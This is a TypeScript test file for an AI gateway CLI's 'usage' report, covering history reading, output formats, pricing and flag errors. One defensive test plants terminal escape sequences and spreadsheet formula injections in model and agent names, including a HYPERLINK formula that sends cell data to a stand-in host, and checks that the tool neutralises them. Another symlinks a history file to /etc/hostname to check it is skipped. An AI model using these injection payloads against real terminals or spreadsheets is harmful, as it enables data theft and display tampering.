/**
 * `ai-gateway usage` as people and scripts run it: read straight from the history files (no proxy
 * running), text, JSON and CSV, --since/--by/--demo, prices, and clear errors for bad flags and files.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { UsageRecord, UsageReport } from '../../app/contract/usage.js';
import { appendRecords } from '../../app/core/usage/history-files.js';
import { cliEnv, runCli, startCli, writeSettings } from '../helpers/cli.js';
import { send } from '../helpers/http.js';
import { freePort, startDoubles, tempDir, type Doubles } from '../helpers/stack.js';

/** The control characters in `text` but newline and tab (C0, DEL, C1) and U+202E, by code: what a terminal would act on. */
const controlsIn = (text: string) => [...text].map((c) => c.codePointAt(0)!).filter((c) => (c < 0x20 && c !== 0x0a && c !== 0x09) || (c >= 0x7f && c <= 0x9f) || c === 0x202e);

const homes: string[] = [];
let doubles: Doubles;
before(async () => {
  doubles = await startDoubles();
});
after(async () => {
  await doubles.close();
  await Promise.all(homes.map((h) => rm(h, { recursive: true, force: true })));
});

const MIN = 60_000;

function rec(minutesAgo: number, fields: Partial<UsageRecord>): UsageRecord {
  return { at: Date.now() - minutesAgo * MIN, agent: 'claude-code', provider: 'anthropic', model: 'claude-sonnet-4-5', status: 200, firstByteMs: 300, totalMs: 1200, inputTokens: 1000, outputTokens: 200, side: null, cause: null, demo: false, ...fields };
}

/**
 * A home with a small history: two Claude Code requests, a failed Codex one, 40 refusals for a wrong local
 * key folded into one record (as the proxy writes a flood), one three days ago, one in the demo's folder.
 */
async function homeWithHistory(extra: Record<string, string> = {}) {
  const home = await tempDir('agw-usage-cli-');
  homes.push(home);
  const env = cliEnv(home, extra);
  const data = env.AI_GATEWAY_HOME!;
  await writeSettings(env, {});
  await appendRecords(join(data, 'usage'), [
    rec(10, {}),
    rec(50, { firstByteMs: 500, totalMs: 2500, inputTokens: 3000, outputTokens: 800 }),
    rec(20, { agent: 'codex', provider: 'openai', model: 'gpt-5', status: 502, firstByteMs: null, totalMs: 40, inputTokens: null, outputTokens: null, side: 'provider', cause: 'provider_unreachable' }),
    rec(25, { agent: null, provider: 'openai', model: null, status: 401, firstByteMs: null, totalMs: 1, inputTokens: null, outputTokens: null, side: 'local', cause: 'local_key_invalid', count: 40 }),
    rec(3 * 24 * 60, { agent: 'opencode', inputTokens: 5, outputTokens: 5 }),
  ]);
  await appendRecords(join(data, 'demo', 'usage'), [rec(5, { agent: 'demo-sample', demo: true })]);
  return { env, data };
}

test('usage: totals and a table per group, read from the files with no proxy running', async () => {
  const { env, data } = await homeWithHistory();
  const result = await runCli(['usage', '--since', '1d'], { env });
  assert.equal(result.code, 0, result.stderr);
  assert.match(result.stdout, new RegExp(`\\(${join(data, 'usage').replaceAll('/', '\\/')}\\)`));
  assert.match(result.stdout, /^43 requests, 41 errors, 4,000 tokens in, 1,000 tokens out$/m);
  assert.match(result.stdout, /AGENT\s+REQUESTS\s+ERRORS\s+TOKENS IN\s+TOKENS OUT\s+FIRST BYTE p50 \/ p95\s+TOTAL p50 \/ p95/);
  assert.match(result.stdout, /^claude-code\s+2\s+0\s+4,000\s+1,000\s+300 ms \/ 500 ms\s+1\.2 s \/ 2\.5 s$/m);
  assert.match(result.stdout, /^codex\s+1\s+1\s+0\s+0\s+- \/ -\s+40 ms \/ 40 ms$/m);
  // The folded refusals count as the 40 requests they were (their time as one sample), first as the largest group.
  assert.match(result.stdout, /AGENT.*\n\(unknown\)\s+40\s+40\s+0\s+0\s+- \/ -\s+1 ms \/ 1 ms$/m);
  assert.match(result.stdout, /^Failures:\n\s+40\s+local_key_invalid \(local\)\n\s+1\s+provider_unreachable \(provider\)$/m);
  assert.match(result.stdout, /^PROVIDER\s+REQUESTS/m);
  assert.match(result.stdout, /^\s+1\s+provider_unreachable \(provider\)$/m);
  assert.doesNotMatch(result.stdout, /\$|COST|opencode|demo-sample/, 'no money without prices; nothing older than --since; no demo');
});

test('usage --json prints the UsageReport; --since 7d reaches back three days; --demo reads the demo\'s history', async () => {
  const { env } = await homeWithHistory();
  const week = JSON.parse((await runCli(['usage', '--json'], { env })).stdout) as UsageReport;
  assert.equal(week.by, 'agent');
  assert.equal(week.until - week.since, 7 * 24 * 60 * MIN);
  assert.deepEqual(week.groups.map((g) => [g.key, g.requests]), [['(unknown)', 40], ['claude-code', 2], ['codex', 1], ['opencode', 1]]);
  assert.deepEqual([week.totals.requests, week.totals.errors], [44, 41]);
  assert.deepEqual(week.causes, [{ side: 'local', cause: 'local_key_invalid', count: 40 }, { side: 'provider', cause: 'provider_unreachable', count: 1 }]);
  assert.equal(week.totals.costUsd, null);
  assert.ok(week.buckets.length > 0 && week.buckets.length <= 60);
  const recent = JSON.parse((await runCli(['usage', '--since', '30m', '--json', '--by', 'provider'], { env })).stdout) as UsageReport;
  assert.deepEqual(recent.groups.map((g) => [g.key, g.requests]), [['openai', 41], ['anthropic', 1]]);
  const demo = JSON.parse((await runCli(['usage', '--demo', '--json'], { env })).stdout) as UsageReport;
  assert.deepEqual(demo.groups.map((g) => [g.key, g.requests]), [['demo-sample', 1]]);
});

test('usage --csv: one row per group, with a header, by model', async () => {
  const { env } = await homeWithHistory();
  const result = await runCli(['usage', '--csv', '--by', 'model', '--since', '1d'], { env });
  assert.equal(result.code, 0, result.stderr);
  assert.deepEqual(result.stdout.trim().split('\n'), [
    'model,requests,errors,input_tokens,output_tokens,first_byte_p50_ms,first_byte_p95_ms,total_p50_ms,total_p95_ms,cost_usd',
    '(unknown),40,40,0,0,,,1,1,',
    'claude-sonnet-4-5,2,0,4000,1000,300,500,1200,2500,',
    'gpt-5,1,1,0,0,,,40,40,',
  ]);
});

test('usage: names an agent or gateway chose are shown, never run: no control character reaches the terminal, no CSV field is a formula', async () => {
  const home = await tempDir('agw-usage-hostile-');
  homes.push(home);
  const env = cliEnv(home);
  await writeSettings(env, {});
  // Records as an older proxy kept them, before it read only plain model names.
  await appendRecords(join(env.AI_GATEWAY_HOME!, 'usage'), [
    rec(5, { model: 'evil\u001b]0;pwned\u0007\u001b[2J' }),
    rec(6, { model: '=HYPERLINK("http://x.test/?"&A1,"open")' }),
    rec(7, { model: '+1+1', agent: '@SUM(1)' }),
    rec(8, { model: '-2', agent: '\tlead' }),
  ]);
  for (const by of ['model', 'agent']) {
    const text = await runCli(['usage', '--by', by, '--since', '1d'], { env });
    assert.equal(text.code, 0, text.stderr);
    assert.deepEqual(controlsIn(text.stdout), []);
    if (by === 'model') assert.match(text.stdout, /evil\\x1b\]0;pwned\\x07\\x1b\[2J/);
  }
  const csv = (await runCli(['usage', '--csv', '--by', 'model', '--since', '1d'], { env })).stdout.trim().split('\n').map((row) => row.split(',')[0]);
  assert.deepEqual(csv.slice(1).sort(), ["'+1+1", "'-2", '"\'=HYPERLINK(""http://x.test/?""&A1', 'evil\\x1b]0;pwned\\x07\\x1b[2J'].sort());
  const agents = (await runCli(['usage', '--csv', '--by', 'agent', '--since', '1d'], { env })).stdout.trim().split('\n').map((row) => row.split(',')[0]);
  assert.deepEqual(agents.slice(1).sort(), ["'@SUM(1)", "'\tlead", 'claude-code'].sort());
});

test('usage: a day file it cannot read (here a symlink) is skipped with a warning naming it and the fix; the rest is reported', async () => {
  const { env, data } = await homeWithHistory();
  // A day inside the default week that holds no records of its own.
  const planted = join(data, 'usage', `${new Date(Date.now() - 5 * 24 * 60 * MIN).toISOString().slice(0, 10)}.jsonl`);
  await symlink('/etc/hostname', planted);
  const result = await runCli(['usage', '--json'], { env });
  assert.equal(result.code, 0, result.stderr);
  assert.equal((JSON.parse(result.stdout) as UsageReport).totals.requests, 44, 'the other days all counted');
  assert.match(result.stderr, new RegExp(`Warning: Skipped the usage history file ${planted.replaceAll('.', '\\.')}: it is a symbolic link or not a regular file, .*Remove it \\(rm "`));
});

test('usage with prices.json: estimated cost per group; a broken file is refused naming its line', async () => {
  const { env, data } = await homeWithHistory();
  await writeFile(join(data, 'prices.json'), '{\n  // per million tokens\n  "claude-sonnet-4-5": { "input": 3, "output": 15 }\n}\n');
  const priced = await runCli(['usage', '--since', '1d'], { env });
  assert.equal(priced.code, 0, priced.stderr);
  // 4,000 in * $3 + 1,000 out * $15 per million = $0.027
  assert.match(priced.stdout, /^43 requests, 41 errors, 4,000 tokens in, 1,000 tokens out, \$0\.03 estimated$/m);
  assert.match(priced.stdout, /^claude-code\s.*\s\$0\.03$/m);
  const json = JSON.parse((await runCli(['usage', '--since', '1d', '--json'], { env })).stdout) as UsageReport;
  assert.equal(json.totals.costUsd, 0.027);

  await writeFile(join(data, 'prices.json'), '{\n  "claude-sonnet-4-5": { "input": 3 "output": 15 }\n}\n');
  const broken = await runCli(['usage'], { env });
  assert.equal(broken.code, 1);
  assert.match(broken.stderr, /prices\.json line 2, column 37: not valid JSON \(CommaExpected\)\. Write it as .*, or remove the file to show no prices\./);
  assert.equal(broken.stdout, '');
});

test('usage: bad flags and settings are named with the accepted forms (exit 2); an empty history says how it fills', async () => {
  const { env } = await homeWithHistory();
  const cases: [string[], RegExp][] = [
    [['--since', 'yesterday'], /--since takes a number and a unit: 30m, 12h, 1d, 7d or 2w \(minutes, hours, days, weeks\), not "yesterday"/],
    [['--since', '0d'], /--since takes a number and a unit/],
    [['--by', 'team'], /--by takes agent, provider or model, not "team"/],
    [['--json', '--csv'], /--json and --csv are two formats: choose one/],
    [['--week'], /Unknown option '--week'\. See `(node bin\/)?ai-gateway(\.cjs)? usage --help`/],
    // parseArgs calls a dash-led value "ambiguous" and ends its sentence with a period of its own.
    [['--since', '-1d'], /--since needs a value, and "-1d" reads as another option .*--since: How far back: 30m, 12h, 1d, 7d, 2w .*\. See `(node bin\/)?ai-gateway(\.cjs)? usage --help`/],
    [['--since'], /--since needs a value and got none\. --since: How far back: 30m, 12h, 1d, 7d, 2w/],
  ];
  for (const [args, message] of cases) {
    const result = await runCli(['usage', ...args], { env });
    assert.equal(result.code, 2, args.join(' '));
    assert.match(result.stderr, message);
    assert.doesNotMatch(result.stderr.replaceAll('bin/ai-gateway', ''), /\.\./, 'one full stop per sentence');
  }
  const badEnv = await runCli(['usage'], { env: { ...env, AI_GATEWAY_USAGE_RETENTION_DAYS: 'a week' } });
  assert.equal(badEnv.code, 2);
  assert.match(badEnv.stderr, /AI_GATEWAY_USAGE_RETENTION_DAYS="a week" is not a whole number from 1 to 366/);

  const fresh = await tempDir('agw-usage-empty-');
  homes.push(fresh);
  const empty = await runCli(['usage'], { env: cliEnv(fresh) });
  assert.equal(empty.code, 0, empty.stderr);
  assert.match(empty.stdout, /No requests recorded in this window\. The history fills as agents use the proxy/);
  const help = await runCli(['--help'], { env });
  assert.match(help.stdout, /^ {2}usage +Show requests, errors, tokens and times per agent, provider or model$/m);
  assert.match((await runCli(['usage', '--help'], { env })).stdout, /--since AGE.*30m, 12h, 1d, 7d, 2w/);
});

test('usage after `serve`: a request through the real proxy shows up in `usage --json`', async () => {
  const home = await tempDir('agw-usage-serve-');
  homes.push(home);
  const env = cliEnv(home, doubles.gatewayEnv);
  const port = await freePort();
  await writeSettings(env, { port });
  const serve = startCli(['serve'], { env, timeoutMs: 60_000 });
  try {
    const [, url] = await serve.waitFor(/listening on (http:\/\/127\.0\.0\.1:\d+)/, { timeoutMs: 20_000 });
    const key = (JSON.parse((await runCli(['env', '--json'], { env })).stdout) as { OPENAI_API_KEY: string }).OPENAI_API_KEY;
    const answer = await send(`${url}/openai/v1/chat/completions`, { headers: { authorization: `Bearer ${key}` }, body: { model: 'gpt-4.1', messages: [{ role: 'user', content: 'hi' }] } });
    assert.equal(answer.status, 200, answer.text);
    const usage = (answer.json as { usage: { prompt_tokens: number; completion_tokens: number } }).usage;
    // The proxy writes its queue within about a second; poll rather than guess.
    let report: UsageReport | null = null;
    for (let i = 0; i < 50 && !(report && report.totals.requests > 0); i++) {
      if (i > 0) await new Promise((resolve) => setTimeout(resolve, 200));
      report = JSON.parse((await runCli(['usage', '--json', '--since', '1h'], { env })).stdout) as UsageReport;
    }
    assert.equal(report!.totals.requests, 1);
    assert.deepEqual([report!.totals.inputTokens, report!.totals.outputTokens], [usage.prompt_tokens, usage.completion_tokens]);
    assert.equal(report!.groups[0]!.key, 'env');
    assert.ok(report!.groups[0]!.totalMs.p50 !== null);
  } finally {
    await serve.stop();
  }
});
